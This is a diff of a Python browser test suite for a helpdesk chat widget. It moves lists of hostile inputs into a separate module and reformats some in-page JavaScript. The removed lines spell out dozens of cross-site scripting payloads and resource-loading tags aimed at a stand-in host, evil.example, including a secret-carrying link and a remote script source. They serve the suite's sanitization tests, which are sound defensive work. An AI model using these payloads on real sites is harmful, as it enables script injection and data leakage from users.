@@ -14,42 +14,9 @@ from memory import chats
 from memory.events import journal
 from memory.models import new_id
 from memory.tenancy import Role
-from tests.browser.conftest import QUESTION, Chat, Desk, OpenDesk, slowly
+from tests.browser.conftest import QUESTION, SHOWN, Chat, Desk, OpenDesk, slowly
+from tests.browser.hostile import FAR, LEAKS, SCRIPTS
 
-FAR = "https://evil.example"
-SCRIPTS = (
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
-    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
-    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
-    "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
-    "<a href=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))",
-    "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:msgbox(1))", "![x](javascript:alert(1))",
-    "[x](https://a\"onmouseover=alert(1))", "[x]('javascript:alert(1)')", "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
-    "<template><img src=x onerror=alert(1)></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<style>@import 'javascript:alert(1)'</style>", "<link rel=stylesheet href=javascript:alert(1)>", "<base href=javascript:alert(1)//>",
-    "<form action=javascript:alert(1)><button>x</button></form>", "<isindex action=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</li><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
-    "</script><script>alert(1)</script>", "<!--<img src='--><img src=x onerror=alert(1)>'>", "<![CDATA[<script>alert(1)</script>]]>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=`x`onerror=alert(1)>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;", "\u003cscript\u003ealert(1)\u003c/script\u003e", "<img/src/onerror=alert(1)>",
-    "<svg/onload=alert(1)//", "<x onclick=alert(1)>y</x>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>",
-    "`<img src=x onerror=alert(1)>`", "```\n</code></pre><script>alert(1)</script>\n```", "**<img src=x onerror=alert(1)>**",
-    "# <script>alert(1)</script>", "- <img src=x onerror=alert(1)>", "1. <svg onload=alert(1)>", "> <script>alert(1)</script>",
-    "[<img src=x onerror=alert(1)>](https://evil.example)", "[1]<script>alert(1)</script>", "javascript:alert(1)", "\u202e<script>alert(1)</script>",
-    "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"&#x6A;avascript:alert(1)\">x</a>", "<img src=x:x onerror=alert(1)>",
-)  # fmt: skip
-LEAKS = (
-    f"![x]({FAR}/1.png)", f"<img src={FAR}/2.png>", f"<svg><image href={FAR}/3.png></svg>", f"<div style='background:url({FAR}/4)'>x</div>",
-    f"<img srcset='{FAR}/5.png 1x'>", f"<video poster={FAR}/6.png>", f"<table background={FAR}/7.png>", f"<input type=image src={FAR}/8.png>",
-    f"<form action={FAR}/9><button autofocus>x</button></form>", f"<audio src={FAR}/10.mp3 autoplay>", f"<link rel=stylesheet href={FAR}/11.css>",
-    f"[click]({FAR}/12?data=secret)", f"<iframe src={FAR}/13></iframe>", f"<script src={FAR}/14.js></script>", f"<link rel=prefetch href={FAR}/15>",
-    f"<style>@import url({FAR}/16.css)</style>", f"<style>body{{background:url({FAR}/17)}}</style>", f"<meta http-equiv=refresh content='0;url={FAR}/18'>",
-    f"<object data={FAR}/19></object>", f"<embed src={FAR}/20>", f"<base href={FAR}/21/>", f"<link rel=dns-prefetch href={FAR}>", f"{FAR}/23",
-    f"[x]({FAR}/24 \"title\")", f"<picture><source srcset={FAR}/25></picture>", f"<track src={FAR}/26>", f"<a href={FAR}/27 ping={FAR}/ping>x</a>",
-    f"![x][r]\n\n[r]: {FAR}/28.png", f"<use href={FAR}/29.svg#x>", f"<q cite={FAR}/30>x</q>", f"<body background={FAR}/31>", f"<frameset><frame src={FAR}/32>",
-    f"<applet code={FAR}/33>", f"<bgsound src={FAR}/34>",
-)  # fmt: skip
 HOSTILE = (*SCRIPTS, *LEAKS)
 
 
@@ -91,7 +58,8 @@ async def planted(one: Desk) -> str:
 async def carry(chat: Chat, one: Desk, kept: str) -> None:
     """Let the widget find that session as its own."""
     await chat.page.frames[-1].evaluate(
-        "([prefix, kept]) => { for (const [name, value] of Object.entries(kept)) localStorage.setItem(prefix + name, JSON.stringify(value)); }",
+        "([prefix, kept]) => { for (const [name, value] of Object.entries(kept))"
+        " localStorage.setItem(prefix + name, JSON.stringify(value)); }",
         [f"helpdesk:{one.tenant.widget_key}:", json.loads(kept)],
     )
 
@@ -113,7 +81,8 @@ class TestHostileWords:
         frame = chat.page.frames[-1]
         made = await frame.evaluate(
             "[...document.querySelectorAll('.log *')].map((node) => node.localName).filter((name) =>"
-            " ['script','img','iframe','svg image','video','audio','object','embed','form','style','link','base','meta','input'].includes(name))"
+            " ['script','img','iframe','image','video','audio','object','embed','form','style','link','base','meta',"
+            "'input'].includes(name))"
         )
         assert made == []
         links = await frame.evaluate("[...document.querySelectorAll('.log a')].map((node) => node.href)")
@@ -213,8 +182,5 @@ class TestCuts:
 
     async def same_as_stored(self, one: Desk, chat: Chat, answers: int) -> None:
         stored = [row["content"] for row in await one.stored() if row["author"] == "bot"][-1]
-        shown = await chat.find(".message.bot.complete .bubble").last.evaluate(
-            "(node) => { const copy = node.cloneNode(true); copy.querySelectorAll('.cite').forEach((mark) => mark.replaceWith(' '));"
-            " return copy.textContent; }"
-        )
+        shown = await chat.find(".message.bot.complete .bubble").last.evaluate(SHOWN)
         assert re.findall(r"\w+", shown) == re.findall(r"\w+", re.sub(r"\[\d+\]", " ", stored))
